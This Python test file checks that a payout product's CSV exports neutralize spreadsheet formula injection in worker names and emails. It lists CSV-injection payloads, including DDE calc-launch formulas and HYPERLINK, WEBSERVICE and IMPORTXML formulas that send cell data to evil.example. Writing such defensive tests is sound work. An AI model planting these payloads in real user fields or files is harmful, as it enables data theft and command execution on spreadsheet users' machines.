"""Attack table, CSV: no cell of a CSV the product writes starts a spreadsheet formula.

Payout CSVs carry what workers chose: their display name (``PATCH /v1/worker/me``) and, for the
public pool, the email they signed up with. Each row sets one payload through those public
surfaces, pays the worker (API, staff API or ``quorum payouts run``), reads the CSV back with
the ``csv`` module and checks every cell; the amounts the product computed stay numbers. The
helper itself (``quorum.csvsafe``) is held by properties over any string. SQLite and PostgreSQL.
"""

import csv
import io
import os
import subprocess
import sys
import unicodedata
from decimal import Decimal

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from quorum.csvsafe import csv_text, neutralized, neutralized_csv
from quorum.db import transaction
from quorum.payouts.models import PayoutRun

# Fixtures: a logged-in platform operator, and workers of a pool.
from tests.accounts.conftest import make_operator, operator  # noqa: F401
from tests.dispatch.conftest import PASSWORD, categorization_project, make_worker  # noqa: F401

GOOD = {"category": "good"}
# What a spreadsheet reads as the start of a formula, written out rather than derived: the
# ASCII four, the minus sign, and their fullwidth, small and superscript/subscript look-alikes.
FORMULA_CHARACTERS = set("=+-@") | set(
    "\u2212\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207c\u207a\u208c\u208a"
)

NAMES = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&B2)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",C2),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-12.50",  # a user's string that looks like a number is still a user's string
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(A1)",
    "\x0b=1+1",
    "\x1b[31m=1+1",
    "\x07bell",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    "\u202e=1+1",  # right-to-left override
    "\uff1d1+1",  # fullwidth =
    "\uff0b1+1",  # fullwidth +
    "\uff0d1+1",  # fullwidth -
    "\uff20SUM(1+1)",  # fullwidth @
    "\ufe661+1",  # small =
    "\u207c1+1",  # superscript =
    "\u22121+1",  # minus sign
    " \uff1d1+1",
    'Bob","=1+1',  # tries to close the quoted cell and open a new one
    "Bob\n=1+1",  # a formula on a second line of one cell
]
EMAILS = [
    "=1+1@evil.example",
    '=HYPERLINK("http://evil.example")@x.example',
    "+1@evil.example",
    "-1+1@evil.example",
    "-2+3+cmd|'/C_calc'!A0@evil.example",
    "\u2212SUM(1)@evil.example",
    "\u200b=1+1@evil.example",
    "\uff1d1+1@evil.example",
    "\uff20SUM(1)@evil.example",
]


def could_start_a_formula(cell: str) -> bool:
    """Whether a spreadsheet might evaluate this cell: it starts (after spaces and invisible
    characters) with a control character or one of the formula characters."""
    invisible = "".join(c for c in set(cell) if unicodedata.category(c) in {"Zs", "Zl", "Zp", "Cf"})
    first = cell.lstrip(invisible)[:1]
    return first in FORMULA_CHARACTERS or (first != "" and unicodedata.category(first) == "Cc")


def _rows(text: str) -> list[dict[str, str]]:
    """The CSV's rows, once every string cell is checked and every amount is a number."""
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        assert len(row) == 7 and None not in row, row  # no cell broke out of its column
        for column, cell in row.items():
            assert not could_start_a_formula(column)
            if column in ("amount_cents", "amount", "entries"):
                Decimal(cell)
            else:
                assert not could_start_a_formula(cell), (column, cell)
    return rows


def _work_one(worker, project_id=None) -> None:
    lease = worker.next(project_id).json()
    assert worker.submit(lease["assignment_id"], GOOD).status_code == 200


def _named_worker(tenant, make, name):
    """A worker of the tenant's pool who chose this display name, on the project."""
    worker = make(tenant, projects=("sentiment",))
    renamed = worker.client.patch("/v1/worker/me", json={"name": name})
    assert renamed.status_code == 200, renamed.text
    assert renamed.json()["name"] == name
    return worker


@pytest.mark.parametrize("name", NAMES)
def test_a_worker_name_never_starts_a_formula_in_the_payout_csv(
    tenant,
    make_worker,  # noqa: F811
    name,
):
    categorization_project(tenant, tasks=1)
    tenant.client.put("/v1/projects/sentiment/pay-rate", json={"cents": 1250})
    worker = _named_worker(tenant, make_worker, name)
    _work_one(worker)
    run = tenant.client.post("/v1/payouts").json()
    downloaded = tenant.client.get(f"/v1/payouts/{run['id']}/csv")
    assert downloaded.headers["content-type"].startswith("text/csv")
    (row,) = _rows(downloaded.text)
    expected = f"'{name}" if could_start_a_formula(name) else name
    assert (row["worker_id"], row["name"]) == (worker.id, expected)
    assert (row["amount_cents"], row["amount"], row["entries"]) == ("1250", "12.50", "1")


@pytest.mark.parametrize("email", EMAILS)
def test_a_public_workers_email_never_starts_a_formula_in_the_platforms_csv(
    tenant,
    operator,  # noqa: F811
    server,
    email,
):
    project_id, _ = categorization_project(tenant, tasks=1)
    tenant.client.patch("/v1/projects/sentiment/workforce", json={"access": "open"})
    tenant.client.put("/v1/projects/sentiment/pay-rate", json={"cents": 7})
    with httpx.Client(base_url=server.url, timeout=30) as anonymous:
        signed_up = anonymous.post("/v1/worker/signup", json={"email": email, "password": PASSWORD})
        assert signed_up.status_code == 200, signed_up.text
        login = anonymous.post("/v1/worker/login", json={"email": email, "password": PASSWORD})
        token, worker_id = login.json()["token"], login.json()["worker"]["id"]
    with httpx.Client(
        base_url=server.url, headers={"Authorization": f"Bearer {token}"}, timeout=30
    ) as client:
        lease = client.post("/v1/worker/tasks/next", json={"project_id": project_id}).json()
        submitted = client.post(
            f"/v1/worker/assignments/{lease['assignment_id']}/submit", json={"response": GOOD}
        )
        assert submitted.status_code == 200, submitted.text
    runs = operator.post("/v1/staff/payouts").json()
    ours = [
        row
        for run in runs
        for row in _rows(operator.get(f"/v1/staff/payouts/{run['id']}/csv").text)
        if row["worker_id"] == worker_id
    ]
    assert [(row["email"].lower(), row["amount"]) for row in ours] == [
        (f"'{email}".lower(), "0.07")
    ]


def test_the_cli_payout_file_neutralizes_worker_names(
    tmp_path,
    database_url,
    tenant,
    make_worker,  # noqa: F811
):
    """One worker per kind of payload (every sign-up hashes a password: the API rows take all)."""
    cli_names = ["=1+1", "-12.50", "\t=1+1", "\u200b=1+1", "\uff1d1+1", 'Bob","=1+1']
    categorization_project(tenant, tasks=len(cli_names))
    tenant.client.put("/v1/projects/sentiment/pay-rate", json={"cents": 5})
    names = {}
    for name in cli_names:
        worker = _named_worker(tenant, make_worker, name)
        _work_one(worker)
        names[worker.id] = name
    out = tmp_path / "payout.csv"
    subprocess.run(
        [sys.executable, "-m", "quorum", "payouts", "run", "--org", tenant.name, "--out", str(out)],
        env={**os.environ, "QUORUM_DATABASE_URL": database_url},
        capture_output=True,
        check=True,
    )
    with out.open(newline="") as file:
        rows = _rows(file.read())
    assert {row["worker_id"]: row["name"] for row in rows} == {
        worker_id: f"'{name}" if could_start_a_formula(name) else name
        for worker_id, name in names.items()
    }


def test_a_run_stored_before_neutralizing_is_neutralized_when_downloaded(tenant, sessions):
    stored = (
        "payout_run_id,worker_id,email,name,amount_cents,amount,entries\n"
        'r1,w1,=1+1@evil.example,"=HYPERLINK(""http://evil.example"")",1250,12.50,1\n'
        "r1,w2,+1@x.example,\t@SUM(A1),-40,-0.40,2\n"
    )
    with transaction(sessions) as db:
        run = PayoutRun(
            org_id=tenant.org_id,
            paid_by="organization",
            total_cents=1210,
            worker_count=2,
            csv=stored,
        )
        db.add(run)
        db.flush()
        run_id = run.id
    rows = _rows(tenant.client.get(f"/v1/payouts/{run_id}/csv").text)
    assert [(r["email"], r["name"], r["amount_cents"], r["amount"]) for r in rows] == [
        ("'=1+1@evil.example", '\'=HYPERLINK("http://evil.example")', "1250", "12.50"),
        ("'+1@x.example", "'\t@SUM(A1)", "-40", "-0.40"),
    ]


# The helper, for any string.

cells = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)
letter_or_digit = st.characters(categories=("L", "N"))


@given(cells)
def test_no_neutralized_string_starts_a_formula(text):
    cell = neutralized(text)
    assert not could_start_a_formula(cell)
    assert cell in (text, f"'{text}")


@given(letter_or_digit, cells)
def test_a_string_starting_with_a_letter_or_digit_is_unchanged(first, rest):
    assert neutralized(first + rest) == first + rest


@given(cells)
def test_neutralizing_twice_changes_nothing_more(text):
    assert neutralized(neutralized(text)) == neutralized(text)


@given(
    st.lists(
        st.lists(
            st.one_of(cells, st.integers(), st.decimals(allow_nan=False, allow_infinity=False)),
            min_size=3,
            max_size=3,
        ),
        max_size=5,
    )
)
def test_a_written_csv_keeps_numbers_and_neutralizes_strings(rows):
    text = csv_text(["a", "b", "c"], rows)
    read = list(csv.reader(io.StringIO(text)))
    assert read[0] == ["a", "b", "c"]
    for written, original in zip(read[1:], rows, strict=True):
        for cell, value in zip(written, original, strict=True):
            expected = neutralized(value) if isinstance(value, str) else str(value)
            assert cell == expected
            assert isinstance(value, int | Decimal) or not could_start_a_formula(cell)
    assert neutralized_csv(text, numeric_columns=("a", "b", "c")) == text


@given(st.lists(st.lists(cells, min_size=2, max_size=2), max_size=5))
def test_a_csv_written_neutralized_is_read_back_unchanged(rows):
    text = csv_text(["a", "b"], rows)
    assert neutralized_csv(text, numeric_columns=()) == text
